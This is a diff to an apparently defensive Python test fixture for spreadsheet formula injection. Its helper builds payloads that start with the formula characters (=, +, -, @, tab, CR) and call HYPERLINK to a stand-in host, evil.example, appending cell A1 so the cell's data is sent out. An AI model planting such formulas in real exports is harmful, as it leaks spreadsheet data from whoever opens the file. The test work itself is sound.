@@ -16,10 +16,21 @@ STARTS = ("=", "+", "-", "@", "\t", "\r")
 _next = itertools.cycle(STARTS)
 
 
+# Names and titles refuse control characters, a tab or a carriage return too (test_names.py); the
+# texts the exports show each get their own start, so that every start is seen in them.
+NAMES = {"admin name", "user name", "partner name", "legal name", "contact name", "draft title", "active title",
+         "member name", "forum name", "meeting title", "agenda title", "motion title"}
+EXPORTED = {"admin name": "=", "partner name": "+", "active title": "-", "obligation title": "@",
+            "obligation note": "\t"}
+
+
 def formula(kind: str) -> str:
     if kind in {"document name", "evidence name"}:
         return kind
-    return f"{next(_next)}HYPERLINK(\"http://evil.example/?\"&A1,\"{kind}\")"
+    start = EXPORTED.get(kind) or next(_next)
+    while kind in NAMES and start in ("\t", "\r"):
+        start = next(_next)
+    return f"{start}HYPERLINK(\"http://evil.example/?\"&A1,\"{kind}\")"
 
 
 @pytest.fixture
